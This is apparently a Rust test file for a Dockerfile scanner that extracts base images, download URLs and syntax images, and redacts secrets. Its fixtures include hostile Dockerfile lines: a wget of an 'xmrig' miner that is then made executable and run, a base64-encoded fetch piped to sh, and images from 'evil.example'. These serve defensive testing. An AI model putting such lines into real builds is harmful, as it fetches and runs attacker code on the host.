use std::collections::BTreeMap;

use tw_model::{Secrets, redacted};

use super::{DockerfileFacts, printable, read};

fn facts_with(text: &str, args: &[(&str, &str)], target: Option<&str>) -> DockerfileFacts {
    let args: BTreeMap<String, String> =
        args.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    read(text, &args, target, Secrets::Redact)
}

fn facts(text: &str) -> DockerfileFacts {
    facts_with(text, &[], None)
}

#[test]
fn simple_file() {
    let facts = facts(
        "FROM alpine:3.18\nRUN wget -q -O /tmp/x http://203.0.113.77/xmrig && chmod +x /tmp/x\nCMD [\"/tmp/x\"]\n",
    );
    assert_eq!(facts.base_images, ["alpine:3.18"]);
    assert_eq!(facts.urls, ["http://203.0.113.77/xmrig"]);
    assert_eq!(facts.steps.len(), 3);
    assert_eq!(facts.steps[2], "CMD [\"/tmp/x\"]");
    assert!(!facts.malformed && !facts.limit_hit);
}

#[test]
fn base_images_are_substituted_and_stages_left_out() {
    let text = "ARG TAG=3.18\nARG IMG\nFROM alpine:${TAG} AS Build\nFROM ${IMG:-debian:12}\n\
        FROM build AS two\nFROM scratch\nCOPY --from=build /a /b\nCOPY --from=0 /a /b\n\
        COPY --from=reg.example/tool:1 /a /b\nRUN --mount=type=bind,from=busybox,target=/b x\n\
        FROM alpine:3.18\n";
    assert_eq!(
        facts(text).base_images,
        ["alpine:3.18", "debian:12", "reg.example/tool:1", "busybox"]
    );
    let with_args = facts_with(text, &[("IMG", "evil.example/i:1"), ("TAG", "edge")], None);
    assert_eq!(with_args.base_images[..2], ["alpine:edge", "evil.example/i:1"]);
    assert_eq!(facts("FROM --platform=linux/amd64 a:1 as x\n").base_images, ["a:1"]);
    assert_eq!(facts("FROM $UNSET\n").base_images, ["$UNSET"]);
}

#[test]
fn urls_are_put_together_from_variables() {
    for text in [
        "FROM a\nARG H=203.0.113.9\nRUN wget http://$H/x\n",
        "ARG H=203.0.113.9\nFROM a\nARG H\nRUN wget http://${H}/x\n",
        "FROM a\nENV H 203.0.113.9\nENV U=http://$H/x\nRUN wget $U\n",
        "FROM a AS b\nENV H=203.0.113.9\nFROM b\nRUN wget \"http://$H/x\"\n",
        "FROM a\nRUN <<E\nwget http://203.0.113.9/x\nE\n",
        "FROM a\nCOPY <<E /run.sh\ncurl http://203.0.113.9/x\nE\n",
        "FROM a\nADD http://203.0.113.9/x /y\n",
        "FROM a\nADD [\"http://203.0.113.9/x\", \"/y\"]\n",
        "FROM a\nONBUILD RUN wget http://203.0.113.9/x\n",
        "FROM a\nHEALTHCHECK --interval=1s CMD wget http://203.0.113.9/x\n",
        "FROM a\nENTRYPOINT [\"sh\",\"-c\",\"wget http://203.0.113.9/x\"]\n",
        "FROM a\nRUN w\\\nget http://203.0.\\\n# no\n113.9/x\n",
        "\u{feff}# escape=`\r\nFROM a\r\nRUN wget `\r\n http://203.0.113.9/x\r\n",
        "BOGUS\nrun wget http://203.0.113.9/x",
        "FROM a\nRUN echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjkveA== | base64 -d | sh\n",
    ] {
        assert_eq!(facts(text).urls, ["http://203.0.113.9/x"], "{text}");
    }
}

#[test]
fn build_argument_beats_default_and_names_urls_itself() {
    let text = "FROM a\nARG U=http://old.example/x\nRUN wget $U -O /tmp/x\n";
    let facts =
        facts_with(text, &[("U", "http://203.0.113.9/x"), ("UNUSED", "http://b.example/")], None);
    assert_eq!(facts.urls, ["http://old.example/x", "http://203.0.113.9/x", "http://b.example/"]);
    let proxied =
        facts_with("FROM a\nRUN apk add curl\n", &[("http_proxy", "203.0.113.9:3128")], None);
    assert_eq!(proxied.urls, ["203.0.113.9:3128"]);
    assert_eq!(proxied.proxies, ["203.0.113.9:3128"]);
}

#[test]
fn env_beats_argument() {
    let text = "FROM a\nENV H=203.0.113.9\nARG H=203.0.113.10\nRUN wget http://$H/x\n";
    assert_eq!(facts(text).urls, ["http://203.0.113.9/x"]);
}

#[test]
fn stages_after_the_target_add_only_their_urls() {
    let text = "FROM a AS one\nRUN wget http://one.example/\nFROM b AS two\nRUN wget http://two.example/\n";
    for target in ["one", "ONE", "0"] {
        let facts = facts_with(text, &[], Some(target));
        assert_eq!(facts.base_images, ["a"]);
        assert_eq!(facts.urls, ["http://one.example/", "http://two.example/"]);
        assert_eq!(facts.steps.len(), 2);
    }
    assert_eq!(facts_with(text, &[], Some("none")).base_images, ["a", "b"]);
}

#[test]
fn syntax_image_is_told() {
    for text in [
        "# syntax=evil.example/front:1\nFROM a\n",
        "#!/usr/bin/env x\n#SYNTAX = evil.example/front:1\nFROM a\n",
        "# escape=`\n# syntax=evil.example/front:1\nFROM a\n",
    ] {
        assert_eq!(facts(text).syntax_image.as_deref(), Some("evil.example/front:1"), "{text}");
    }
    assert_eq!(facts("FROM a\n# syntax=b\n").syntax_image, None);
}

#[test]
fn secrets_are_replaced_and_the_rest_stays() {
    let text = "FROM a\n# don't\nENV API_TOKEN hunter2\nARG DB_PASSWORD=\"hunter2\" V=1\n\
        RUN curl -u me:hunter2 https://me:hunter2@h.example/x \\\n  --token hunter2 # can't\n\
        ENV A=1 \\\n  SECRET='hunter2'\nRUN <<E\nexport TOKEN=hunter2\nE\n";
    let hidden = redacted(b"hunter2");
    let basic = redacted(b"me:hunter2");
    let shown = printable(text, Secrets::Redact);
    assert!(!shown.contains("hunter2"), "{shown}");
    assert_eq!(shown, text.replace("me:hunter2", &basic).replace("hunter2", &hidden));
    assert_eq!(printable(&shown, Secrets::Redact), shown);
    assert_eq!(printable(text, Secrets::Keep), text);
    let facts = facts(text);
    assert_eq!(facts.exposed_secrets, ["API_TOKEN", "DB_PASSWORD", "SECRET"]);
    assert!(facts.steps.iter().all(|step| !step.contains("hunter2")), "{:?}", facts.steps);
    assert!(facts.urls.iter().all(|url| !url.contains("hunter2")), "{:?}", facts.urls);
}

#[test]
fn exec_form_is_written_anew_only_with_a_secret() {
    let plain = "FROM a\nCMD [ \"sh\",  \"-c\", \"id\" ]\n";
    assert_eq!(printable(plain, Secrets::Redact), plain);
    let secret =
        "FROM a\nHEALTHCHECK --interval=1s CMD [\"curl\", \"-u\", \"me:hunter2\", \"http://h/\"]\n";
    let expected = format!(
        "FROM a\nHEALTHCHECK --interval=1s CMD [\"curl\",\"-u\",\"{}\",\"http://h/\"]\n",
        redacted(b"me:hunter2")
    );
    assert_eq!(printable(secret, Secrets::Redact), expected);
}

#[test]
fn changed_bytes_never_panic() {
    let text = "# escape=`\nARG T=${A:-1}\nFROM a:$T AS b\nENV K v\\\n w\nRUN <<E x\ny\nE\nCOPY --from=b \
        [\"x\", \"y\"]\nADD <<-\"F\" /d\n\tq\n\tF\nONBUILD RUN w $T\nCMD [\"z\"]\nRUN a `\n# c\n b\n";
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    for _ in 0..4000 {
        let mut bytes = text.as_bytes().to_vec();
        for _ in 0..4 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let at = usize::try_from(seed >> 40).unwrap() % bytes.len();
            let other = usize::try_from(seed & 0xffff).unwrap() % bytes.len();
            match seed >> 62 {
                0 => bytes[at] = seed.to_le_bytes()[1],
                1 => bytes.swap(at, other),
                2 => bytes[at] = b'\n',
                _ => bytes.truncate(at.max(1)),
            }
        }
        let text = String::from_utf8_lossy(&bytes);
        facts(&text);
        // No secret in it, so nothing may change.
        assert_eq!(printable(&text, Secrets::Redact), text, "seed {seed}");
    }
}

#[test]
fn hostile_files_are_bounded() {
    for text in [
        String::new(),
        "\u{feff}".to_owned(),
        "\\".to_owned(),
        "RUN".to_owned(),
        "FROM a\nRUN <<".to_owned(),
        format!("FROM a\nRUN {}", "x".repeat(2 << 20)),
        "RUN <<E\n".repeat(100_000),
        (0..100_000).map(|n| format!("RUN <<E{n}\n")).collect(),
        format!("FROM a\nRUN {}", "<<E ".repeat(200_000)),
        format!("FROM a\nARG A=xxxxxxxx\n{}", "ARG A=$A$A\n".repeat(5000)),
        format!("FROM a\n{}", "ENV A=${A:-${A:-${A}}}$A\n".repeat(5000)),
        "FROM a AS b\n".repeat(25_000),
        "FROM a\n".repeat(25_000),
        format!("FROM a\nRUN x{}", "\\\n".repeat(500_000)),
        format!("FROM a\nRUN {}", "\\\n#\n".repeat(200_000)),
        format!("FROM a\nONBUILD {}", "ONBUILD ".repeat(100_000)),
        "\u{0}\u{1}é\u{301}\u{feff}FROM\u{a0}x".to_owned(),
        "FROM a\nCOPY [\"x\", \"y\"".to_owned(),
    ] {
        let facts = facts(&text);
        assert!(facts.steps.len() <= 10_000);
        assert!(facts.base_images.len() <= 1000);
        printable(&text, Secrets::Redact);
    }
}
